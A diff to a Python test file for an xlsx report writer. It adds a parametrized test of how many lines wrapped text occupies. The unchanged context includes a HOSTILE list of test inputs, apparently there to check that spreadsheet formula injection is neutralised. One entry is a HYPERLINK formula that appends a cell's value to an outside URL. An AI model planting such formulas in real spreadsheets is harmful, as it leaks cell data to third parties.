@@ -31,6 +31,7 @@ from ilrs_desk.reports.document import (
     TableBlock,
 )
 from ilrs_desk.reports.xlsx import sheet_title, write_xlsx
+from ilrs_desk.reports.xlsx_records import wrapped_lines
 
 HOSTILE = [
     '=HYPERLINK("http://example.org/?"&A1,"Click")',
@@ -166,6 +167,22 @@ def test_wide_text_makes_the_column_wide_and_long_text_the_row_tall(tmp_path: Pa
     assert sheet.row_dimensions[2].height >= 4 * 15
     assert sheet.row_dimensions[3].height == 30
     assert sheet["C2"].alignment.wrap_text
+
+
+@pytest.mark.parametrize(
+    ("text", "room", "lines"),
+    [
+        ("", 9, 0),
+        ("word", 9, 1),
+        ("two words", 5, 2),
+        ("国" * 10, 10, 2),
+        ("x" * 30, 10, 3),
+        ("a\n\nb", 9, 3),
+        ("AB " * 4, 6, 2),
+    ],
+)
+def test_lines_of_wrapped_text(text: str, room: int, lines: int) -> None:
+    assert wrapped_lines(text, room) == lines
 
 
 def test_a_table_without_rows_is_still_a_table(tmp_path: Path) -> None:
